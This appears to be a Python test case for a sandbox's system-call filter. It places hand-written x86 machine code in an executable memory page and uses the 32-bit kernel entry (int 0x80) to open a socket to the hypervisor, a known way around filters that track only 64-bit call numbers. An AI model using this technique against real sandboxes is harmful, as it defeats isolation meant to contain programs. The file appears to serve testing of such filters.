"""Calls the kernel by the door for 32-bit programs, whose calls have other numbers: a filter must know them too."""

import ctypes
import mmap
import os
import sys

SOCKET, AF_VSOCK, STREAM = 359, 40, 1
# push rbx; mov eax, SOCKET; mov ebx, AF_VSOCK; mov ecx, STREAM; xor edx, edx; int 0x80; pop rbx; ret
CODE = (
    b"\x53\xb8" + SOCKET.to_bytes(4, "little") + b"\xbb" + AF_VSOCK.to_bytes(4, "little")
    + b"\xb9" + STREAM.to_bytes(4, "little") + b"\x31\xd2\xcd\x80\x5b\xc3"
)


def attack(world):
    if os.uname().machine != "x86_64":
        raise OSError("only x86-64 has this door")
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    pid = os.fork()
    if pid == 0:
        descriptor = call()
        if descriptor >= 0:
            print("GOT a socket to the hypervisor:", os.readlink(f"/proc/self/fd/{descriptor}"))
        sys.stdout.flush()
        os._exit(0)
    print("the child ended with", os.waitpid(pid, 0)[1])
